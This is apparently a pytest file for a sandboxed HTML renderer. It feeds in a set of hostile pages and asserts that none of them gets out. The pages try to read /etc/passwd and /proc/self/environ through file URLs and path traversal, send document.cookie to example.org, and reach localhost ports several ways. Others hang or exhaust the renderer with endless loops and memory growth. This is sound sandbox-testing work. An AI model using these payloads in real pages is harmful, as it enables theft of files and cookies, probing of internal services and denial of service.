"""Pages that look around, call home, or never come to rest."""

from __future__ import annotations

import pytest

from runners.base import MIB, Limits, Verdict
from tests.runners.attacks.attack import QUICK, Attack, Outcome

FAILED, DRAWN, EMPTY, LATE = Verdict.FAILED, Verdict.RENDERED, Verdict.NO_PICTURE, Verdict.TIMED_OUT

SOON = Limits(wall_seconds=5)
BUSY = Limits(wall_seconds=15)
PASSWORDS = "/etc/passwd"


def page(name: str, body: str, verdict: Verdict | tuple[Verdict, ...] = FAILED, limits: Limits = QUICK, says: str = "") -> Attack:  # fmt: skip
    """A page with one word to see."""
    whole = f"<!DOCTYPE html>\n<html><head></head><body>\n<p>seen</p>{body}\n</body></html>\n"
    return Attack(name, whole, verdict, "html", says=says, limits=limits)


def script(name: str, code: str, verdict: Verdict | tuple[Verdict, ...] = FAILED, limits: Limits = QUICK, says: str = "") -> Attack:  # fmt: skip
    """A page with a script."""
    return page(name, f"<script>{code}</script>", verdict, limits, says)


def shown(address: str) -> str:
    """A script that puts into the page what an address gives."""
    return f"fetch('{address}').then(r => r.text()).then(t => document.body.append(t))"


ATTACKS = (
    page("files by every element", f"<iframe src='file://{PASSWORDS}'></iframe><object data='file://{PASSWORDS}'></object><embed src='file://{PASSWORDS}'><script src='file://{PASSWORDS}'></script><link rel=stylesheet href='file://«secret»'><img src='file://«session»/01.png'>"),
    page("a frame of the browser itself", "<iframe src='chrome://version'></iframe><iframe src='view-source:file:///etc/passwd'></iframe>", (FAILED, DRAWN)),
    script("a file by fetch", shown("file://«secret»")),
    script("a file by its address", f"location = 'file://{PASSWORDS}'"),
    script("up and out", ";".join(map(shown, ("%2e%2e%2f%2e%2e%2fetc%2fpasswd", "https://unpkg.com/three/examples/jsm/..%2f..%2f..%2f..%2fpackage.json", "style", "/proc/self/environ")))),
    script("to another page with a cookie", "location = 'https://example.org/?' + document.cookie"),
    script("a server of the user", "const at = '127.0.0.1:«tcp»'; fetch(`http://${at}/`); new WebSocket(`ws://${at}/`); new Image().src = `http://localhost:«tcp»/`; navigator.sendBeacon(`http://${at}/`, 'x'); new EventSource(`http://${at}/`)", says="cannot be reached"),
    page("a form that is sent", "<form id=f action='http://127.0.0.1:«tcp»/' method=post><input name=a value=b></form><script>f.submit()</script>"),
    page("addresses that are looked up ahead", "<link rel=dns-prefetch href='//example.org'><link rel=preconnect href='http://127.0.0.1:«tcp»'><iframe src='http://127.0.0.1:«tcp»/'></iframe><style>@import 'http://127.0.0.1:«tcp»/x.css'; p { background: url(http://127.0.0.1:«tcp»/x.png) }</style><link rel=prefetch href='http://127.0.0.1:«tcp»/x'><a id=a ping='http://127.0.0.1:«tcp»/' href='#'>x</a><script>a.click()</script>", (FAILED, DRAWN)),
    script("a call to a peer", "const p = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:«udp»'}]}); p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o))", DRAWN),
    page("a new place after a while", "<meta http-equiv=refresh content='0; url=http://127.0.0.1:«tcp»/'>", (FAILED, DRAWN)),
    script("many windows", "for (let n = 0; n < 5; n++) window.open('https://example.org/')", (FAILED, DRAWN)),
    page("a download", "<a id=a download='x.txt' href='data:text/plain,x'>x</a><script>a.click(); print(); alert(1)</script>", DRAWN),
    script("a servant that stays", "navigator.serviceWorker.register('data.csv')", (FAILED, DRAWN)),
    script("questions without end", "for (let n = 0; ; n++) alert(n)", (LATE, FAILED), SOON),
    script("timers without end", "(function f() { Promise.resolve().then(() => setTimeout(f, 0)); document.body.append('.') })()", DRAWN),
    script("a worker without end", "new Worker(URL.createObjectURL(new Blob(['for(;;);'])))", DRAWN),
    script("promises without end", "(function f() { Promise.resolve().then(f) })()", (LATE, FAILED), SOON),
    script("a loop without end", "while (true);", (LATE, FAILED), SOON),
    script("a loop later", "setTimeout(() => { for (;;); }, 100)", (LATE, FAILED), SOON),
    script("a page that loads itself", "location.reload()"),
    script("words without end", "for (let n = 0; n < 1e5; n++) console.log('y'.repeat(1000))", (DRAWN, LATE), SOON),
    script("a canvas of 60000 by 60000", "const c = document.body.appendChild(document.createElement('canvas')); c.width = c.height = 60000; c.getContext('2d').fillRect(0, 0, 9, 9)", (DRAWN, FAILED, LATE, Verdict.BLANK, Verdict.OUT_OF_MEMORY), BUSY),
    page("a page of a million by a million", "<div style='width:1000000px;height:1000000px;background:linear-gradient(red,blue)'></div>", (DRAWN, FAILED, LATE, Verdict.OUT_OF_MEMORY), BUSY),
    script("a million elements", "document.body.innerHTML = '<b>x</b>'.repeat(300000)", (DRAWN, LATE, FAILED, Verdict.OUT_OF_MEMORY), SOON),
    script("memory without end", "const x = []; for (;;) x.push(new Array(1e6).fill(Math.random()))", Verdict.OUT_OF_MEMORY, Limits(memory_bytes=1024 * MIB)),
    script("memory outside of the heap", "const x = []; for (;;) x.push(new Uint8Array(5e7).fill(1))", Verdict.OUT_OF_MEMORY, Limits(memory_bytes=1024 * MIB)),
    script("what is not for pages", "navigator.geolocation.getCurrentPosition(() => 0); navigator.clipboard.readText(); navigator.mediaDevices && navigator.mediaDevices.getUserMedia({video: true}); Notification.requestPermission()", (FAILED, DRAWN)),
)  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS, ids=str)
def test_nothing_gets_out(outcomes: dict[str, Outcome], attack: Attack) -> None:
    outcomes[attack.name].assert_held()
